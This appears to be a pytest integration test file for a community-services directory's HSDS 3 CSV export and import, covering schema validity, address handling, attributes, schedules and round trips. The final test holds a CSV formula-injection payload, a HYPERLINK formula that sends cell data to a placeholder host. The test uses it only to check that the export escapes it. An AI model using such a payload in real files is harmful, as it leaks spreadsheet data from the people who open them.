import csv
import io
import json
import uuid

import pytest
from sqlalchemy import delete

from directory.csv_import import import_organisations_csv
from directory.demo import load_demo
from directory.hsds_export import export_hsds
from directory.hsds_import import import_hsds
from directory.models import Organisation
from tests.hsds_schemas import package_errors
from tests.integration.directory.helpers import OFFICIAL_3_0, SAMPLE_1_1, UK_FICTIONAL, snapshot, write_csv


def run_import(session_factory, path, geocoder, areas):
    with session_factory() as session:
        return import_hsds(session, path, geocoder=geocoder, areas=areas)


def run_export(session_factory, out_dir, geocoder):
    with session_factory() as session:
        return export_hsds(session, out_dir, geocoder=geocoder)


def read_table(path):
    with open(path, newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return reader.fieldnames, list(reader)


def native_directory(session_factory, geocoder, areas, tmp_path):
    """Organisations as staff load them by CSV: coverage lists, no radius, modes, hours, free-text contact."""
    hub = {
        "external_id": "csv:hub",
        "name": "Sutton Central Hub",
        "kind": "hub",
        "area": "sutton",
        "services": "shopping;prescriptions;befriending",
        "coverage_outcodes": "SM1;SM2",
        "base_postcode": "SM1 1EA",
        "base_address": "Civic Offices, St Nicholas Way",
        "capacity": 25,
        "opening_hours": "mon-fri 09:00-17:00; sat 10:00-13:00",
        "contact_name": "Jo Example",
        "contact_phone": "020 7946 0100",
        "contact_email": "hub@example.org",
        "public_contact": "020 7946 0100 · hub@example.org · https://hub.example.org",
    }
    street = {
        "external_id": "csv:street",
        "name": "Cheam Street Helpers — dog walking",
        "kind": "mutual_aid",
        "area": "sutton",
        "services": "dog_walking;errands",
        "base_postcode": "SM3 8QB",
        "radius_km": 1.5,
        "mutual_aid_mode": "arms_length",
        "opening_hours": "always",
        "contact_phone": "07700 900123",
        "public_contact": "Text 07700 900123",
    }
    safety_net = {
        "external_id": "csv:net",
        "name": "Coventry Safety Net",
        "kind": "safety_net",
        "area": "coventry",
        "services": "personal_care;housing",
        "min_age": 18,
    }
    organisations = write_csv(tmp_path / "organisations.csv", [hub, street, safety_net])
    with session_factory() as session:
        report = import_organisations_csv(session, organisations, geocoder=geocoder, areas=areas)
    assert report.created == 3, report.summary()


def test_export_is_a_valid_hsds_3_package(session_factory, geocoder, areas, tmp_path):
    run_import(session_factory, UK_FICTIONAL, geocoder, areas)
    native_directory(session_factory, geocoder, areas, tmp_path)
    out = tmp_path / "export"
    report = run_export(session_factory, out, geocoder)

    assert report.organisations == 10
    official = {
        r["name"]: r for r in json.loads((OFFICIAL_3_0 / "datapackage.json").read_text())["resources"]
    }
    descriptor = json.loads((out / "datapackage.json").read_text())
    listed = {resource["path"] for resource in descriptor["resources"]}
    assert listed == {path.name for path in out.glob("*.csv")} == set(report.files)
    tables = {r["name"]: read_table(out / r["path"]) for r in descriptor["resources"]}
    ids = {name: {row["id"] for row in rows} for name, (_, rows) in tables.items()}
    for resource in descriptor["resources"]:
        name = resource["name"]
        header, rows = tables[name]
        spec_fields = official[name]["schema"]["fields"]
        assert resource["path"] == official[name]["path"]
        assert header == [f["name"] for f in spec_fields] == [f["name"] for f in resource["schema"]["fields"]]
        assert report.files[resource["path"]] == len(rows)
        for spec in spec_fields:
            constraints = spec.get("constraints", {})
            for row in rows:
                value = row[spec["name"]]
                if constraints.get("required"):
                    assert value, f"{name}.{spec['name']} is required"
                if value and "enum" in constraints:
                    assert value in constraints["enum"], f"{name}.{spec['name']}={value!r}"
                if value and spec.get("format") == "uuid":
                    assert str(uuid.UUID(value)) == value
                if value and spec["type"] == "number":
                    float(value)
        assert len(ids[name]) == len(rows), f"{name}: duplicate ids"
        for key in resource["schema"].get("foreignKeys", []):
            target = key["reference"]["resource"]
            assert {row[key["fields"]] for row in rows} - {""} <= ids[target], f"{name}.{key['fields']}"


def test_export_passes_the_official_hsds_3_json_schemas(session_factory, geocoder, areas, tmp_path):
    with session_factory() as session:
        load_demo(session)
    run_import(session_factory, UK_FICTIONAL, geocoder, areas)
    native_directory(session_factory, geocoder, areas, tmp_path)
    out = tmp_path / "export"
    run_export(session_factory, out, geocoder)

    assert package_errors(out) == []


def test_an_address_is_complete_from_the_address_line_and_the_postcode_or_not_written(
    session_factory, geocoder, areas, tmp_path
):
    native_directory(session_factory, geocoder, areas, tmp_path)
    out = tmp_path / "export"
    run_export(session_factory, out, geocoder)

    addresses = read_table(out / "addresses.csv")[1]
    located = {row["name"]: row["id"] for row in read_table(out / "locations.csv")[1]}
    assert [
        (row["address_1"], row["city"], row["state_province"], row["postal_code"], row["country"])
        for row in addresses
    ] == [("Civic Offices, St Nicholas Way", "Sutton", "England", "SM1 1EA", "GB")]
    assert addresses[0]["location_id"] == located["Sutton Central Hub"]
    # Cheam Street Helpers has a postcode but no address line: a location with coordinates, no address row,
    # and the postcode kept as an attribute.
    assert "Cheam Street Helpers — dog walking" in located
    terms = {row["id"]: row["code"] for row in read_table(out / "taxonomy_terms.csv")[1]}
    postcodes = {
        row["value"]
        for row in read_table(out / "attributes.csv")[1]
        if terms[row["taxonomy_term_id"]] == "base_postcode"
    }
    assert postcodes == {"SM1 1EA", "SM3 8QB", ""}


def test_export_writes_need_codes_and_directory_fields_as_attributes(
    session_factory, geocoder, areas, tmp_path
):
    native_directory(session_factory, geocoder, areas, tmp_path)
    out = tmp_path / "export"
    run_export(session_factory, out, geocoder)

    terms = {row["id"]: row for row in read_table(out / "taxonomy_terms.csv")[1]}
    services = {row["name"]: row["id"] for row in read_table(out / "services.csv")[1]}
    hub = [
        row
        for row in read_table(out / "attributes.csv")[1]
        if row["link_id"] == services["Sutton Central Hub"]
    ]
    needs = [
        terms[row["taxonomy_term_id"]]["code"] for row in hub if row["link_type"] == "one-route-in-needs"
    ]
    fields = {
        terms[row["taxonomy_term_id"]]["code"]: row["value"]
        for row in hub
        if row["link_type"] == "one-route-in-fields"
    }
    assert needs == ["shopping", "prescriptions", "befriending"]
    assert fields["coverage_outcodes"] == "SM1;SM2"
    assert (fields["kind"], fields["area"], fields["radius_km"], fields["capacity"]) == (
        "hub",
        "sutton",
        "",
        "25",
    )
    schedules = read_table(out / "schedules.csv")[1]
    assert {(row["byday"], row["opens_at"], row["closes_at"]) for row in schedules} == {
        ("MO,TU,WE,TH,FR", "09:00:00", "17:00:00"),
        ("SA", "10:00:00", "13:00:00"),
    }
    phones = {(row["number"], bool(row["contact_id"])) for row in read_table(out / "phones.csv")[1]}
    assert {("+442079460100", True), ("+442079460100", False), ("+447700900123", False)} <= phones
    organizations = {row["name"] for row in read_table(out / "organizations.csv")[1]}
    assert "Cheam Street Helpers" in organizations  # the name splits at " — " into organisation and service


@pytest.mark.parametrize("package", [OFFICIAL_3_0, SAMPLE_1_1, UK_FICTIONAL], ids=lambda path: path.name)
def test_round_trip_gives_the_same_directory(session_factory, session, geocoder, areas, tmp_path, package):
    run_import(session_factory, package, geocoder, areas)
    imported = snapshot(session)
    out = tmp_path / "export"
    run_export(session_factory, out, geocoder)

    again = run_import(session_factory, out, geocoder, areas)
    assert (again.created, again.updated, again.unchanged, again.skipped) == (0, 0, len(imported), 0)
    assert snapshot(session) == imported

    with session_factory() as writer:
        writer.execute(delete(Organisation))
        writer.commit()
    fresh = run_import(session_factory, out, geocoder, areas)
    assert fresh.created == len(imported)
    assert snapshot(session) == imported


def test_round_trip_keeps_a_directory_loaded_by_csv(session_factory, session, geocoder, areas, tmp_path):
    native_directory(session_factory, geocoder, areas, tmp_path)
    before = snapshot(session)
    run_export(session_factory, tmp_path / "first", geocoder)

    with session_factory() as writer:
        writer.execute(delete(Organisation))
        writer.commit()
    report = run_import(session_factory, tmp_path / "first", geocoder, areas)
    assert report.created == 3
    assert snapshot(session) == before
    run_export(session_factory, tmp_path / "second", geocoder)
    for path in (tmp_path / "first").iterdir():
        assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes(), path.name


def test_a_hostile_organisation_name_cannot_run_as_a_formula_in_the_export(
    session_factory, geocoder, areas, tmp_path
):
    hostile = '=HYPERLINK("http://x/?d="&A1,"Click")'
    rows = [
        {
            "external_id": "csv:hostile",
            "name": hostile,
            "kind": "hub",
            "area": "sutton",
            "services": "shopping",
            "coverage_outcodes": "SM1",
            "base_postcode": "SM1 1EA",
            "public_contact": "@everyone +44 7700 900123",
        }
    ]
    with session_factory() as session:
        report = import_organisations_csv(
            session, write_csv(tmp_path / "organisations.csv", rows), geocoder=geocoder, areas=areas
        )
    assert report.created == 1, report.summary()

    run_export(session_factory, tmp_path / "export", geocoder)

    _, organizations = read_table(tmp_path / "export" / "organizations.csv")
    assert [row["name"] for row in organizations] == ["'" + hostile]
    every_cell = [
        cell
        for path in (tmp_path / "export").glob("*.csv")
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
        for cell in row
    ]
    assert "'@everyone +44 7700 900123" in every_cell
    formulas = [cell for cell in every_cell if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    _, locations = read_table(tmp_path / "export" / "locations.csv")
    longitude = locations[0]["longitude"]
    assert float(longitude) < 0, "a number (Sutton's longitude) stays a number"
    assert sorted(formulas) == ["+447700900123", longitude], "only numbers start so: a phone, a longitude"
